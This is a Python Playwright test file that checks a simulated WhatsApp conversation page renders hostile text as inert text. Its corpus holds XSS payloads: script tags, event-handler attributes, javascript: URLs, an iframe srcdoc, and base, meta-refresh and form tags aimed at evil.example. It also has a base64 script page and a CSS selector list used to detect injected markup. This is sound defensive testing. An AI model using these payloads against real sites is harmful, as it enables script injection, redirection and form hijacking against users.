"""Text is never markup: whatever is written, and wherever it stands, it is seen as it is and does nothing."""

from urllib.parse import urlencode

import pytest
from playwright.async_api import Browser, Error, expect

from simulator.phone.beside import ConversationView, Deadline, Step
from tests.browser.chromium import Seen, seen
from tests.browser.conftest import Bench

pytestmark = pytest.mark.asyncio(loop_scope="module")

ANA = "whatsapp:+5511999990000"

CORPUS = (
    "<script>window.ran = 1; alert(1)</script>",
    "<img src=x onerror='window.ran = 1; alert(1)'>",
    "\"><svg onload=alert(1)><a href='javascript:alert(1)'>tap</a>",
    "' autofocus onfocus=alert(1) x='",
    "</textarea></template></title><iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<style>*{display:none!important}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/ id=toast><input name=text></form>",
    "{{ 7 * 7 }}{% raw %}${7 * 7}<%= 7 * 7 %>",
    "&lt;b&gt;&amp;amp;&#x3c;script&#x3e;",
    ']]>--><!--<x>-->data: {}\n\ndata: {"target": "toast"}\n\n',
    "javascript:alert(1) data:text/html,<script>alert(1)</script>",
)
BODIES_OF_HTML = (
    "script, style, iframe, form, base, meta, link, svg[onload], [onerror], [onfocus], [autofocus], a[href^='javascript']"
)


async def test_no_text_becomes_markup_in_any_place_of_the_page(browser: Browser, bench: Bench) -> None:
    for text in CORPUS:
        await _write_everywhere(bench, text)
    bench.system.conversations[ANA] = _hostile_view()
    query = urlencode([pair for text in CORPUS[:5] for pair in (("name", text),)] + [("contact", _address(n)) for n in range(5)])
    async with seen(browser, f"{bench.url}?{query}") as shown:
        await shown.page.locator(".bubble").first.wait_for()
        await _does_nothing(shown)
    async with seen(browser, bench.url) as shown:
        await expect(shown.bubbles("Ana").locator(".text").first).to_be_visible()
        await expect(shown.phone("Ana").locator(".own .text")).to_have_text([text.strip() for text in CORPUS])
        await expect(shown.beside("Ana").locator(".status-line")).to_contain_text(CORPUS[0])
        await expect(shown.beside("Ana").locator(".steps")).to_contain_text(CORPUS[1])
        await _does_nothing(shown)


def _address(number: int) -> str:
    return ANA if number == 0 else f"whatsapp:+55119000000{number:02d}"


async def _write_everywhere(bench: Bench, text: str) -> None:
    """As body, profile name, place, button, a picture's text, unknown message type; as the answer, and as a fault's code."""
    write = bench.stand_in.write
    await write(ANA, body=text.strip(), profile_name=text)
    for number in range(1, 5):
        await write(_address(number), type="location", label=text, address=text)
        await write(_address(number), type="button", button_text=text, button_payload=text)
        await write(_address(number), type=text, body=text)
        await write(_address(number), type="image", body=text, media={"content_type": "image/png", "content": "AAAA"})
    await bench.stand_in.send(text, to=ANA)
    await bench.stand_in.send("with a picture", to=ANA, media_url=["https://evil.example/%22%3E%3Cscript%3E.png"])


def _hostile_view() -> ConversationView:
    steps = tuple(Step(f'{number}" onclick="x', text, 0, (text, f"status {text} → active")) for number, text in enumerate(CORPUS))
    deadlines = tuple(Deadline(text, 2**45, 0, text, text) for text in CORPUS)
    return ConversationView('active" onclick="x', CORPUS[0], 1, deadlines, steps, CORPUS)


async def _does_nothing(shown: Seen) -> None:
    """Neither an element nor an attribute came of it, and nothing ran; the rest is asserted where the page is closed."""
    strange = shown.page.locator("main").locator(BODIES_OF_HTML)
    assert await strange.evaluate_all("found => found.filter(each => !each.matches('.composer, .answer')).length") == 0
    assert (
        await shown.page.evaluate(
            "[...document.querySelectorAll('*')].some(e => [...e.attributes].some(a => /^on/.test(a.name)))"
        )
        is False
    )
    assert await shown.page.evaluate("window.ran") is None
    assert await shown.page.evaluate("document.scripts.length") == 1
    assert shown.wrong == []
    assert await shown.violations() == []


async def test_what_is_typed_is_no_markup_either(shown: Seen) -> None:
    for text in CORPUS[:4]:
        await shown.write("Ana", text)
    await expect(shown.bubbles("Ana").locator(".text")).to_have_text(list(CORPUS[:4]))
    await _does_nothing(shown)


async def test_a_page_made_by_a_contact_cannot_run_beside_this_one(browser: Browser, bench: Bench) -> None:
    """What a contact sent is served from the same address; opened there it is saved, and not shown."""
    page = "PHNjcmlwdD5kb2N1bWVudC50aXRsZSA9ICdyYW4nPC9zY3JpcHQ+"
    await bench.stand_in.write(ANA, type="document", media={"content_type": "text/html", "content": page})
    [entry] = await bench.stand_in.entries("message_written")
    message = entry["details"]["message"]
    context = await browser.new_context()
    opened = await context.new_page()
    with pytest.raises(Error, match="Download is starting"):
        await opened.goto(f"{bench.url}cdn/{message['sid']}/{message['media'][0]['sid']}")
    assert await opened.title() == ""
    await context.close()


async def test_text_to_be_read_from_the_right_stays_in_its_bubble(shown: Seen, bench: Bench) -> None:
    await shown.write("Ana", "שלום עולם")
    await shown.write("Ana", "abc \u202eright to left \u2066and no end")
    await expect(shown.bubbles("Ana")).to_have_count(2)
    directions = await shown.bubbles("Ana").locator(".text").evaluate_all("all => all.map(e => getComputedStyle(e).direction)")
    assert directions == ["rtl", "ltr"]
    isolated = await shown.bubbles("Ana").locator(".text").evaluate_all("all => all.map(e => getComputedStyle(e).unicodeBidi)")
    assert set(isolated) == {"isolate"}
    times = await shown.bubbles("Ana").locator("time").all_text_contents()
    assert all(len(each) == len("12:34") for each in times)


@pytest.mark.parametrize(
    ("text", "visible"), [("\u200b\u200d", "U+200B U+200D"), ("\u202e", "U+202E"), ("a\x00b\x07", "a␀b␇")], ids=ascii
)
async def test_what_cannot_be_seen_is_named(shown: Seen, bench: Bench, text: str, visible: str) -> None:
    await bench.stand_in.write(ANA, body=text)
    await expect(shown.bubbles("Ana").locator(".text")).to_have_text(visible)
